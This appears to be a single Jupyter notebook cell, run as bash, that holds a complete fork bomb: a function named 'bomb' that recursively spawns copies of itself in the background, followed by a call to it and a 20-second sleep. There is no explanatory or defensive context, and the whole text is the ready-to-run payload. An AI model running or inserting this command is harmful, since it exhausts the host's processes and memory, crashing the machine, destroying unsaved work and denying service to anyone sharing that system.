%%bash
bomb() { bomb | bomb & }; bomb; sleep 20
